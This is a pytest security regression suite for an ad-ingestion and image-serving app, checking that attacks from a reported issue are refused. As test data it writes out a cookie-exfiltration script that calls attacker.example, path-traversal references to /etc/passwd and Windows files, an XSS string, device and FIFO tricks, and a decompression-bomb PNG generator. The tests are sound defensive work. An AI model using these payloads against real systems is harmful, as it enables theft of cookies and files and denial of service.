"""Issue 10, item 1: images are data we copied, never paths we follow.

Each test replays an attack from the issue against the real app: `tracelight ingest` through the
CLI, then the workspace through the ASGI test client. Images are tiny generated squares.
"""

from __future__ import annotations

import json
import os
import shutil
import struct
import threading
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from sqlalchemy import select, update

from tracelight.cli.main import cli
from tracelight.errors import NotFoundError
from tracelight.images.refs import ImageRefused, read_regular_file, resolve_reference
from tracelight.store import open_store
from tracelight.store.accounts import Accounts
from tracelight.store.blobs import ImageStore, key_for
from tracelight.store.schema import ad_images, images
from tracelight.web.app import create_app
from tracelight.web.auth import LoginLimiter, hash_password
from web_helpers import PASSWORD, login


def square(path: Path, colour: tuple[int, int, int] = (40, 120, 200), fmt: str = "PNG") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (32, 32), colour).save(path, fmt)
    return path


def bomb_png(width: int = 13000, height: int = 13000) -> bytes:
    """A valid 1-bit PNG of width x height whose file is a few kilobytes (all black)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    row = b"\x00" * (1 + (width + 7) // 8)
    comp = zlib.compressobj(9)
    body = b"".join(comp.compress(row) for _ in range(height)) + comp.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body)
            + chunk(b"IEND", b""))


class Env:
    def __init__(self, tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.tmp = tmp
        self.data = tmp / "data"
        self.data.mkdir()
        self.image_dir = self.data / "tracelight-images"
        self.db = f"sqlite:///{self.data / 'tracelight.db'}"
        monkeypatch.setenv("TRACELIGHT_IMAGE_DIR", str(self.image_dir))
        monkeypatch.setenv("TRACELIGHT_DB", self.db)

    def ingest(self, path: Path) -> dict[str, Any]:
        result = CliRunner().invoke(cli, ["ingest", str(path), "--workers", "1", "--no-extract",
                                          "--no-score", "--format",
                                          "jsonl", "--rejects", str(self.tmp / "rejects.txt")],
                                    catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return json.loads(result.stdout)

    def client(self, store: Any = None, image_dir: Path | None = None) -> TestClient:
        store = store or open_store(self.db)
        accounts = Accounts(store)
        try:
            accounts.get_user("bo")
        except NotFoundError:
            accounts.add_user("bo", hash_password(PASSWORD), "analyst")
        app = create_app(store, image_dir=str(image_dir or self.image_dir),
                         secret_key="test-secret", limiter=LoginLimiter())
        client = TestClient(app, base_url="http://127.0.0.1")
        assert login(client, "bo").status_code == 303
        return client


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Env]:
    yield Env(tmp_path, monkeypatch)


def ad_images_rows(db: str) -> list[dict[str, Any]]:
    store = open_store(db)
    try:
        with store.connect() as conn:
            stmt = (select(ad_images.c.ad_pk, ad_images.c.position, ad_images.c.original,
                           ad_images.c.error, images.c.sha256, images.c.stored_path)
                    .select_from(ad_images.outerjoin(images,
                                                     images.c.pk == ad_images.c.image_pk))
                    .order_by(ad_images.c.ad_pk, ad_images.c.position))
            return [dict(r._mapping) for r in conn.execute(stmt)]
    finally:
        store.close()


def write_jsonl(path: Path, ads: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(a) + "\n" for a in ads))
    return path


def kept_files(image_dir: Path) -> list[Path]:
    return sorted(p for p in image_dir.rglob("*") if p.is_file()) if image_dir.exists() else []


# ---- finding: page_files/payload.html + x.js served as HTML/JS on the workspace's origin -------

def test_saved_page_payload_html_and_js_are_never_served(env: Env) -> None:
    site = env.tmp / "site"
    files = site / "page_files"
    files.mkdir(parents=True)
    (files / "payload.html").write_text("<script src='x.js'></script><h1>hello</h1>")
    (files / "x.js").write_text("fetch('https://attacker.example/?c='+document.cookie)")
    square(files / "photo.png")
    (site / "ad.html").write_text(
        "<html><head><title>Ad</title></head><body><article>Call 206 555 0143</article>"
        '<img src="page_files/payload.html"><img src="page_files/x.js">'
        '<img src="page_files/photo.png?v=2"></body></html>')
    assert env.ingest(site / "ad.html")["new"] == 1
    rows = ad_images_rows(env.db)
    assert [r["error"] is not None for r in rows] == [True, True, False]
    assert all(r["stored_path"] is None for r in rows[:2])
    assert len(kept_files(env.image_dir)) == 1  # only the real picture was copied
    client = env.client()
    pk = rows[0]["ad_pk"]
    for pos in (0, 1):
        for kind in ("full", "blurred"):
            r = client.get(f"/ads/{pk}/images/{pos}/{kind}")
            assert r.status_code == 404
            assert "script" not in r.headers["content-type"]
            assert "attacker.example" not in r.text
    page = client.get(f"/ads/{pk}")
    assert page.text.count("Image error:") == 2 and "not a recognised image format" in page.text
    api = client.get("/api/ads/ad").json()["images"]
    assert [bool(i["error"]) for i in api] == [True, True, False]
    full = client.get(f"/ads/{pk}/images/2/full")
    assert full.status_code == 200 and full.headers["content-type"] == "image/png"
    assert full.headers["x-content-type-options"] == "nosniff"
    assert full.headers["content-disposition"] == "inline"


def test_served_type_comes_from_the_decoded_format_not_the_name(env: Env) -> None:
    folder = env.tmp / "in"
    square(folder / "looks.html", fmt="JPEG")  # a real JPEG named like a page
    square(folder / "p.png", (200, 10, 10), fmt="WEBP")
    write_jsonl(folder / "ads.jsonl", [{"id": "1", "source": "s", "body": "b",
                                        "images": ["looks.html", "p.png"]}])
    env.ingest(folder / "ads.jsonl")
    client = env.client()
    r0 = client.get("/ads/1/images/0/full")
    assert r0.status_code == 200 and r0.headers["content-type"] == "image/jpeg"
    assert r0.content[:3] == b"\xff\xd8\xff"
    r1 = client.get("/ads/1/images/1/full")
    assert r1.headers["content-type"] == "image/webp" and r1.content[8:12] == b"WEBP"


# ---- finding: /etc/passwd, ../ and absolute paths read and served ------------------------------

def test_absolute_parent_and_root_relative_paths_are_not_read(env: Env) -> None:
    folder = env.tmp / "in" / "feed"
    folder.mkdir(parents=True)
    outside = square(env.tmp / "in" / "outside.png")  # a real image, but outside the folder
    write_jsonl(folder / "ads.jsonl", [{"id": "1", "source": "s", "body": "b", "images": [
        "/etc/passwd", "../outside.png", str(outside), "sub/../../outside.png",
        "..\\outside.png", "file:///etc/passwd", "C:\\Windows\\win.ini", "%2e%2e/outside.png",
        "/static/app.js", '/x"><script>alert(1)</script>.png']}])
    env.ingest(folder / "ads.jsonl")
    rows = ad_images_rows(env.db)
    assert len(rows) == 10 and all(r["error"] and r["sha256"] is None for r in rows)
    assert kept_files(env.image_dir) == []
    client = env.client()
    for pos in range(10):
        r = client.get(f"/ads/1/images/{pos}/full")
        assert r.status_code == 404 and "root:" not in r.text
    page = client.get("/ads/1").text
    assert page.count("Image error:") == 10 and "<script>alert(1)" not in page


def test_html_img_src_root_relative_and_warc_relative_are_not_local_files(env: Env) -> None:
    site = env.tmp / "site"
    square(site / "img" / "a.png")
    (site / "ad.html").write_text('<body><article>x</article><img src="/etc/passwd">'
                                  '<img src="img/a.png"></body>')
    env.ingest(site / "ad.html")
    rows = ad_images_rows(env.db)
    assert rows[0]["error"] and "root-relative" in rows[0]["error"]
    assert rows[1]["error"] is None
    from tracelight.ingest.html import image_reference
    # In a WARC record a src is relative to the captured page: a remote URL, never a file
    assert image_reference("img/a.png", "https://ads.example/p/1") \
        == "https://ads.example/p/img/a.png"
    assert image_reference("../../etc/passwd", "https://ads.example/p/1").startswith("https://")


def test_warc_record_images_are_not_read_from_beside_the_warc(env: Env) -> None:
    import io as _io

    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter
    folder = env.tmp / "crawl"
    square(folder / "img" / "a.png")  # beside the WARC: must not be taken for the ad's image
    page = ('<html><body><main>x</main><img src="img/a.png"><img src="/etc/passwd">'
            '<img src="../../etc/passwd"></body></html>')
    with open(folder / "crawl.warc.gz", "wb") as fh:
        writer = WARCWriter(fh, gzip=True)
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")],
                                   protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(
            "https://site.example/ad/1", "response", payload=_io.BytesIO(page.encode()),
            http_headers=headers))
    env.ingest(folder / "crawl.warc.gz")
    rows = ad_images_rows(env.db)
    assert [r["original"] for r in rows] == ["https://site.example/ad/img/a.png",
                                             "https://site.example/etc/passwd",
                                             "https://site.example/etc/passwd"]
    assert all("remote" in r["error"] for r in rows) and kept_files(env.image_dir) == []


# ---- finding: /dev/zero read until memory ran out; a FIFO hung ingest --------------------------

def _finishes(fn: Any) -> Any:
    """Run fn in a thread; a hang (the bug) fails the test instead of hanging the suite."""
    out: dict[str, Any] = {}

    def target() -> None:
        try:
            out["v"] = fn()
        except BaseException as exc:  # re-raised in the test's own thread
            out["e"] = exc

    worker = threading.Thread(target=target, daemon=True)
    worker.start()
    worker.join(120)
    assert not worker.is_alive(), "ingest hung on an image reference"
    if "e" in out:
        raise out["e"]
    return out["v"]


@pytest.mark.skipif(not hasattr(os, "mkfifo") or not os.path.exists("/dev/zero"),
                    reason="needs POSIX FIFOs and /dev/zero")
def test_dev_zero_and_fifo_neither_hang_nor_exhaust_memory(env: Env) -> None:
    folder = env.tmp / "in"
    folder.mkdir()
    os.mkfifo(folder / "pipe.jpg")
    (folder / "zero.jpg").symlink_to("/dev/zero")
    square(folder / "ok.png")
    write_jsonl(folder / "ads.jsonl", [{"id": "1", "source": "s", "body": "b", "images": [
        "/dev/zero", "zero.jpg", "pipe.jpg", "ok.png"]}])
    summary = _finishes(lambda: env.ingest(folder / "ads.jsonl"))
    assert summary["new"] == 1
    errors = [r["error"] for r in ad_images_rows(env.db)]
    assert "absolute" in errors[0] and "outside" in errors[1] and "FIFO" in errors[2]
    assert errors[3] is None
    # the reader itself never blocks or reads a device, whatever path it is handed
    with pytest.raises(ImageRefused, match="FIFO"):
        _finishes(lambda: read_regular_file(folder / "pipe.jpg", 10**6))
    with pytest.raises(ImageRefused, match="device"):
        read_regular_file(Path("/dev/zero"), 10**6)


def test_size_cap_refuses_before_reading(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRACELIGHT_IMAGE_MAX_BYTES", "1000")
    folder = env.tmp / "in"
    big = folder / "big.png"
    folder.mkdir()
    Image.effect_noise((64, 64), 80).convert("RGB").save(big)  # a few KB of noise
    write_jsonl(folder / "ads.jsonl", [{"id": "1", "source": "s", "body": "b",
                                        "images": ["big.png"]}])
    env.ingest(folder / "ads.jsonl")
    assert "TRACELIGHT_IMAGE_MAX_BYTES" in ad_images_rows(env.db)[0]["error"]


# ---- finding: the thumbnail route fully decodes a 13000x13000 PNG ------------------------------

def test_decompression_bomb_refused_by_ingest_and_by_the_thumbnail_route(
        env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    from PIL import ImageFile
    data = bomb_png()
    assert len(data) < 100_000
    folder = env.tmp / "in"
    folder.mkdir()
    (folder / "bomb.png").write_bytes(data)
    write_jsonl(folder / "ads.jsonl", [{"id": "1", "source": "s", "body": "b",
                                        "images": ["bomb.png"]}])
    decoded: list[tuple[int, int]] = []
    real_load = ImageFile.ImageFile.load

    def spy(self: Any) -> Any:
        decoded.append(self.size)
        return real_load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
    env.ingest(folder / "ads.jsonl")
    row = ad_images_rows(env.db)[0]
    assert "pixel limit" in row["error"] and row["stored_path"] is None
    assert kept_files(env.image_dir) == []
    # Even if such bytes were in the store (a store from before, a tampered row), the preview
    # and the full route read the size from the header and refuse without decoding.
    store = open_store(env.db)
    sha = ImageStore(env.image_dir).put(data).split("/")[1]
    with store.transaction() as conn:
        conn.execute(update(images).where(images.c.sha256 == sha)
                     .values(stored_path=key_for(sha)))
        conn.execute(update(ad_images).values(error=None))
    client = env.client(store)
    for kind in ("blurred", "full"):
        r = client.get(f"/ads/1/images/0/{kind}")
        assert r.status_code == 400 and "pixel limit" in r.text
    assert (13000, 13000) not in decoded


# ---- finding: symlinks out of the folder ------------------------------------------------------

def test_symlinks_out_of_the_input_folder_are_refused(env: Env) -> None:
    secret = square(env.tmp / "private" / "family.png")
    folder = env.tmp / "in"
    folder.mkdir()
    (folder / "link.png").symlink_to(secret)
    (folder / "dir").symlink_to(secret.parent, target_is_directory=True)
    square(folder / "real" / "inside.png")
    (folder / "alias.png").symlink_to(folder / "real" / "inside.png")  # stays inside: fine
    write_jsonl(folder / "ads.jsonl", [{"id": "1", "source": "s", "body": "b",
                                        "images": ["link.png", "dir/family.png", "alias.png"]}])
    env.ingest(folder / "ads.jsonl")
    errors = [r["error"] for r in ad_images_rows(env.db)]
    assert "outside" in errors[0] and "outside" in errors[1] and errors[2] is None


# ---- finding: moving the data folder broke image paths ----------------------------------------

def test_moving_the_data_folder_keeps_images_working(env: Env) -> None:
    folder = env.tmp / "in"
    square(folder / "a.png")
    write_jsonl(folder / "ads.jsonl", [{"id": "1", "source": "s", "body": "b",
                                        "images": ["a.png"]}])
    env.ingest(folder / "ads.jsonl")
    shutil.rmtree(folder)  # the input is gone too: only the store's copy remains
    moved = env.tmp / "moved"
    env.data.rename(moved)
    store = open_store(f"sqlite:///{moved / 'tracelight.db'}")
    client = env.client(store, image_dir=moved / "tracelight-images")
    r = client.get("/ads/1/images/0/full")
    assert r.status_code == 200 and r.headers["content-type"] == "image/png"
    assert client.get("/ads/1/images/0/blurred").status_code == 200


# ---- migration of stores made before the image store ------------------------------------------

def test_image_migrate_copies_valid_images_and_flags_the_rest(env: Env) -> None:
    folder = env.tmp / "in"
    square(folder / "a.png")
    square(folder / "b.png", (10, 200, 10))
    write_jsonl(folder / "ads.jsonl", [{"id": "1", "source": "s", "body": "b",
                                        "images": ["a.png", "b.png"]}])
    env.ingest(folder / "ads.jsonl")
    store = open_store(env.db)
    kept = ImageStore(env.image_dir)
    with store.connect() as conn:
        shas = [r.sha256 for r in conn.execute(select(images.c.sha256).order_by(images.c.pk))]
    # Rewrite the store as an older version left it: absolute paths of `ab/<sha>.png` copies
    legacy = env.image_dir / shas[0][:2] / f"{shas[0]}.png"
    legacy.write_bytes(kept.path(shas[0]).read_bytes())
    for sha in shas:
        kept.path(sha).unlink()
    passwd_sha = "0" * 64
    with store.transaction() as conn:
        conn.execute(update(images).where(images.c.sha256 == shas[0])
                     .values(stored_path=str(legacy)))
        conn.execute(update(images).where(images.c.sha256 == shas[1])
                     .values(stored_path="/etc/passwd"))
        conn.execute(images.insert().values(sha256=passwd_sha, md5="0" * 32,
                                            stored_path="/etc/passwd"))
        pk = conn.execute(select(images.c.pk).where(images.c.sha256 == passwd_sha)).scalar()
        conn.execute(ad_images.insert().values(ad_pk=1, position=2, image_pk=pk,
                                               original="/etc/passwd", error=None))
    client = env.client(store)
    assert "tracelight image migrate" in client.get("/ads/1").text
    assert client.get("/ads/1/images/2/full").status_code == 404

    def migrate() -> dict[str, Any]:
        result = CliRunner().invoke(cli, ["image", "migrate"], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return json.loads(result.stdout)

    first = migrate()
    assert (first["checked"], first["copied"], first["flagged"]) == (3, 1, 2)
    assert first["refs_flagged"] == 0  # the /etc/passwd row was flagged with its image already
    second = migrate()
    assert (second["already"], second["copied"], second["flagged"]) == (1, 0, 0)
    rows = ad_images_rows(env.db)
    assert rows[0]["error"] is None and rows[0]["stored_path"] == key_for(shas[0])
    assert rows[1]["error"].startswith("image migration: ")
    assert rows[2]["error"].startswith("image migration: ")
    assert client.get("/ads/1/images/0/full").status_code == 200
    assert client.get("/ads/1/images/1/full").status_code == 404
    page = client.get("/ads/1").text
    assert page.count("Image error:") == 2 and "root:" not in page


# ---- the path resolver, property-tested --------------------------------------------------------

PARTS = st.sampled_from(["..", ".", "", "a.png", "sub", "link", "dirlink", "out", "etc",
                         "passwd", "%2e%2e", "C:", "\\", "a b.png", "\x00", "~", "file:"])


@pytest.fixture(scope="module")
def resolver_tree(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("resolver")
    base = root / "base"
    outside = root / "out"
    for folder in (base / "sub", outside):
        folder.mkdir(parents=True)
        (folder / "a.png").write_bytes(b"x")
    (base / "link").symlink_to(outside / "a.png")
    (base / "dirlink").symlink_to(outside, target_is_directory=True)
    (base / "sub" / "link").symlink_to(base / "a.png")
    (base / "a.png").write_bytes(b"x")
    return base, outside


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture],
          deadline=None)
@given(parts=st.lists(PARTS, min_size=1, max_size=6), sep=st.sampled_from(["/", "\\"]),
       lead=st.sampled_from(["", "/", "\\", "./", "//"]))
def test_resolver_never_leaves_the_input_folder(resolver_tree: tuple[Path, Path],
                                                parts: list[str], sep: str, lead: str) -> None:
    base, outside = resolver_tree
    ref = lead + sep.join(parts)
    try:
        found = resolve_reference(ref, base)
    except ImageRefused as exc:
        assert exc.reason
        return
    real_base = Path(os.path.realpath(base))
    assert found.is_relative_to(real_base) and found != real_base
    assert not found.is_relative_to(Path(os.path.realpath(outside)))
    assert ".." not in ref.replace("\\", "/").split("/")
    assert not ref.startswith(("/", "\\"))


@given(src=st.text(max_size=40), path=st.text(max_size=20))
@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture],
          deadline=None)
def test_warc_img_src_never_becomes_a_local_file(resolver_tree: tuple[Path, Path], src: str,
                                                 path: str) -> None:
    from urllib.parse import quote

    from tracelight.ingest.html import image_reference
    base, _ = resolver_tree
    ref = image_reference(src, f"https://ads.example/{quote(path)}")
    with pytest.raises(ImageRefused):
        resolve_reference(ref, base)


@given(ref=st.text(max_size=40))
@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture],
          deadline=None)
def test_resolver_on_any_text_refuses_or_stays_inside(resolver_tree: tuple[Path, Path],
                                                      ref: str) -> None:
    base, _ = resolver_tree
    try:
        found = resolve_reference(ref, base)
    except ImageRefused:
        return
    assert found.is_relative_to(Path(os.path.realpath(base)))


def test_an_image_first_seen_unkept_gets_its_key_when_kept_later(env: Env) -> None:
    folder = env.tmp / "in"
    square(folder / "a.png")
    write_jsonl(folder / "one.jsonl", [{"id": "1", "source": "s", "body": "b",
                                        "images": ["a.png"]}])
    store = open_store(env.db)
    from tracelight.images.stage import ImageStage
    from tracelight.records import AdRecord, ProcessedAd
    item = ProcessedAd(AdRecord(id="0", source="s", body="b", images=("a.png",)))
    ImageStage(None)(item, folder)  # an ingest that kept no bytes
    store.write_batch(None, [item])
    env.ingest(folder / "one.jsonl")
    rows = ad_images_rows(env.db)
    assert {r["stored_path"] for r in rows} == {key_for(rows[0]["sha256"])}
    assert env.client(store).get("/ads/1/images/0/full").status_code == 200
